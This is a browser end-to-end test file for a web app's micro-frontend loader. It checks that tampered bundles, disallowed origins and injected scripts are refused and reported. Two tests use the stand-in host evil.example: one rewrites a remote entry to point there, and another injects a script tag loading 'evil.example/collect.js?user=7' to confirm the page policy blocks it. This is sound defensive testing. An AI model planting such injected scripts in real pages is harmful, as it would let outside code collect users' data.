/// <reference lib="dom" />
import { sampleOf } from '@shortlist/tooling/test/depth.ts';
import type { Page, Request } from 'playwright-core';
import { expect } from 'vitest';
import { test } from '../browser/journey.ts';
import { tamperWith } from '../network/tamper.ts';
import { demoRecruiter, profileButton, signIn } from '../steps/account.ts';
import { isMarked, markPage, retryIn } from '../steps/remotes.ts';

const refusal = "Plans failed a security check and wasn't loaded.";

test.for(
  sampleOf([
    ['entry', '**/assets/mfe-billing/*/remoteEntry.js*'],
    ['chunk', /\/assets\/mfe-billing\/[^/]+\/\d+\.[0-9a-f]+\.js/],
    ['style sheet', '**/assets/mfe-billing/*/*.css*'],
  ] as const),
)(
  '[SH-08] a remote with a changed %s is refused in its place and reported, and Retry works once it is whole',
  async ([, files], { page }) => {
    await signIn(page, demoRecruiter);
    const told = tellingsOf(page);
    const letBe = await tamperWith(page, files);

    await page.goto('/plans', { waitUntil: 'commit' });
    await page.getByRole('heading', { level: 1, name: refusal }).waitFor({ timeout: 40_000 });
    await profileButton(page, demoRecruiter.username).waitFor();
    await expect
      .poll(() => told.filter(isSign('tampered')), { timeout: 60_000 })
      .toMatchObject([
        {
          remote: 'mfe_billing',
          team: 'Billing',
          detail: expect.stringMatching(/ is not what was released\.$/),
        },
      ]);

    await markPage(page);
    await letBe();
    await retryIn(
      page.getByRole('main'),
      page.getByRole('heading', { level: 1, name: 'Plans', exact: true }),
    );
    expect(await isMarked(page)).toBe(true);
  },
);

test('[SH-08] a chunk of the shell that was changed is the shell’s fault, not that of the remote which needs it', {
  tags: 'thorough',
}, async ({ page }) => {
  await signIn(page, demoRecruiter);
  const told = tellingsOf(page);
  const letBe = await tamperWith(page, '**/assets/shell/*/shared-*.js*');

  await page.goto('/plans', { waitUntil: 'commit' });
  await page
    .getByRole('heading', { level: 1, name: "Part of Plans couldn't be loaded." })
    .waitFor({ timeout: 40_000 });
  await expect
    .poll(() => told.filter(isSign('tampered')), { timeout: 60_000 })
    .toMatchObject([{ remote: 'shell' }]);

  await letBe();
  await retryIn(page.getByRole('main'), page.getByRole('heading', { level: 1, name: 'Plans', exact: true }));
});

test.for(
  sampleOf([
    ['script', '**/assets/shell/*/main.*.js'],
    ['style sheet', '**/assets/shell/*/main.*.css'],
  ] as const),
)(
  '[SH-08] a changed first %s of the shell is refused: the page itself says so and reports it',
  async ([, files], { page }) => {
    const told = tellingsOf(page);
    const letBe = await tamperWith(page, files);

    await page.goto('/login', { waitUntil: 'commit' });
    const alert = page.getByRole('alert').filter({ hasText: "Part of Shortlist couldn't be loaded safely." });
    await alert.waitFor();
    await expect
      .poll(() => told.filter(isSign('not_started')))
      .toMatchObject([{ remote: 'shell', team: 'Shell' }]);

    await letBe();
    await alert.getByRole('link', { name: 'Reload page' }).click();
    await page.getByRole('heading', { level: 1, name: 'Login' }).waitFor();
    await expect.poll(() => alert.count()).toBe(0);
  },
);

test('a remote on an origin that is not allowed is refused with a sentence, and nothing is asked there', async ({
  page,
}) => {
  await signIn(page, demoRecruiter);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.route('**/plans', async (route) => {
    const reply = await route.fetch();
    const html = (await reply.text()).replace(
      /"entry":"\/assets\/mfe-billing/,
      '"entry":"https://evil.example/assets/mfe-billing',
    );
    await route.fulfill({ response: reply, body: html });
  });

  await page.goto('/plans', { waitUntil: 'commit' });

  await page.getByRole('heading', { name: 'Plans comes from a blocked address.' }).waitFor();
  expect(asked.filter((address) => address.includes('evil.example'))).toEqual([]);
});

test('a script from anywhere else is refused by the policy of the page, and reported', async ({ page }) => {
  await signIn(page, demoRecruiter);
  const told = tellingsOf(page);
  await page.goto('/plans', { waitUntil: 'commit' });
  await page.getByRole('heading', { level: 1, name: 'Plans', exact: true }).waitFor();

  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/collect.js?user=7';
    document.head.append(script);
  });

  await expect
    .poll(() => told.filter(isSign('policy')), { timeout: 60_000 })
    .toMatchObject([{ detail: 'script-src-elem refused evil.example.' }]);
});

interface Telling {
  readonly kind: string;
  readonly sign?: string;
}

/** What a page tells the edge of itself, as it goes on. */
function tellingsOf(page: Page): Telling[] {
  const told: Telling[] = [];
  page.on('request', (request: Request) => {
    if (!request.url().endsWith('/telemetry')) return;
    told.push(...(JSON.parse(request.postData() ?? '{"events":[]}') as { events: Telling[] }).events);
  });
  return told;
}

const isSign =
  (name: string) =>
  ({ kind, sign }: Telling): boolean =>
    kind === 'sign' && sign === name;
